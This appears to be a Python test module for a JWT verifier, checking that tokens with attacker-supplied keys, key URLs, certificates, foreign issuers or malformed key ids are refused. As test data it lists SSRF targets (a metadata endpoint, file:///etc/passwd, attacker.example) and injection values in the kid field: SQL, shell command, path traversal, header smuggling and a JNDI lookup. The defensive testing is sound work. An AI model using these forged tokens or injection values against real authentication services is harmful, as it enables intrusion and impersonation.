"""Rows 13-21: keys that the token itself offers, and key ids as weapons (RFC 8725 section 3.10)."""

from __future__ import annotations

import hashlib
import hmac
from collections.abc import Iterator

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from extauthz.core.model import Reason
from tests.attacks.table import Case, Stage, allowed, refused, row
from tests.tokens import ABSENT, b64, signer

MALFORMED = Reason.MALFORMED_TOKEN
UNKNOWN_KEY = Reason.UNKNOWN_KEY
BAD = Reason.BAD_SIGNATURE

ADDRESSES = (
    "https://attacker.example/jwks",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:1/jwks",
    "http://[::1]/jwks",
    "file:///etc/passwd",
    "gopher://attacker.example/x",
    "https://idp.example.com@attacker.example/jwks",
)


@row(13, "a jwk header with the attacker's key")
def jwk_header(stage: Stage) -> Iterator[Case]:
    for algorithm in ("ES256", "RS256", "EdDSA"):
        attacker = signer(algorithm, "attacker")
        offered = attacker.public_jwk()
        for kid in (algorithm.lower(), ABSENT):
            token = stage.mint(key=attacker, header={"kid": kid, "jwk": offered})
            yield refused(f"{algorithm}, kid {kid is not ABSENT}", token, BAD)
        yield refused(
            f"{algorithm}, own kid", stage.mint(key=attacker, header={"jwk": offered}), UNKNOWN_KEY
        )
    secret = b"0123456789abcdef0123456789abcdef"
    token = stage.mint(
        header={"alg": "HS256", "jwk": {"kty": "oct", "k": b64(secret)}},
        sign=lambda message: hmac.new(secret, message, "sha256").digest(),
    )
    yield refused("oct", token, Reason.UNSUPPORTED_ALGORITHM)


@row(14, "a jwk header with the issuer's own key is not looked at", policy=True)
def trusted_jwk_header(stage: Stage) -> Iterator[Case]:
    trusted = signer()
    token = stage.mint(header={"jwk": trusted.public_jwk()})
    yield allowed("genuine signature by a known kid", token)
    stranger = stage.mint(header={"kid": "unknown", "jwk": trusted.public_jwk()})
    yield refused("the same under an unknown kid", stranger, UNKNOWN_KEY)


@row(15, "jku and x5u: nothing is fetched")
def key_urls(stage: Stage) -> Iterator[Case]:
    attacker = signer("ES256", "attacker")
    for address in ADDRESSES:
        for name in ("jku", "x5u"):
            forged = stage.mint(key=attacker, header={"kid": "es256", name: address})
            yield refused(f"{name} {address}", forged, BAD)
            unknown = stage.mint(key=attacker, header={name: address})
            yield refused(f"{name} {address}, own kid", unknown, UNKNOWN_KEY)


@row(16, "x5c and x5t of the attacker's certificate")
def certificates(stage: Stage) -> Iterator[Case]:
    attacker = signer("ES256", "attacker")
    assert isinstance(attacker.private, ec.EllipticCurvePrivateKey)
    der = attacker.private.public_key().public_bytes(
        Encoding.DER, PublicFormat.SubjectPublicKeyInfo
    )
    thumbprint = b64(hashlib.sha256(der).digest())
    for header in ({"x5c": [b64(der)]}, {"x5t#S256": thumbprint}, {"x5t": thumbprint}):
        token = stage.mint(key=attacker, header={"kid": "es256", **header})
        yield refused(next(iter(header)), token, BAD)
        token = stage.mint(key=attacker, header={"kid": ABSENT, **header})
        yield refused(f"{next(iter(header))}, no kid", token, BAD)


@row(17, "iss is the attacker: no discovery")
def foreign_issuer(stage: Stage) -> Iterator[Case]:
    attacker = signer("ES256", "attacker")
    for address in ADDRESSES:
        token = stage.mint({"iss": address}, key=attacker)
        yield refused(address, token, Reason.UNKNOWN_ISSUER)


@row(18, "kids that are paths, queries, commands, look-alikes, or huge")
def odd_kids(stage: Stage) -> Iterator[Case]:
    kids = [
        "../../dev/null", "/dev/null", "' OR '1'='1", "| touch /tmp/x", "es256\0", "\0",
        "es256\r\nx-auth-subject: root", "es256 ", " es256", "ES256", "еs256", "*",
        "%65s256", "es256/../es256", "${jndi:ldap://attacker.example}", "x" * 1024,
    ]  # fmt: skip
    for kid in kids:
        yield refused(repr(kid[:40]), stage.mint(header={"kid": kid}), UNKNOWN_KEY)
    for kid in ("", "x" * 1025):
        yield refused(f"{len(kid)} long", stage.mint(header={"kid": kid}), MALFORMED)
    huge = stage.mint(header={"kid": "x" * 100_000})
    yield refused("100 kB", huge, Reason.TOKEN_TOO_LARGE)


@row(19, "kid /dev/null and an empty HMAC key")
def dev_null(stage: Stage) -> Iterator[Case]:
    token = stage.mint(
        header={"alg": "HS256", "kid": "/dev/null"},
        sign=lambda message: hmac.new(b"", message, "sha256").digest(),
    )
    yield refused("HS256", token, Reason.UNSUPPORTED_ALGORITHM)


@row(20, "kid that is no string, genuine signature")
def kid_types(stage: Stage) -> Iterator[Case]:
    for kid in (256, None, ["es256"], {"es256": 1}, True, 1.5):
        yield refused(repr(kid), stage.mint(header={"kid": kid}), MALFORMED)


@row(21, "many unknown kids: each is refused; tests of the keys count the fetches")
def unknown_kids(stage: Stage) -> Iterator[Case]:
    for number in range(50):
        yield refused(number, stage.mint(header={"kid": f"random-{number}"}), UNKNOWN_KEY)
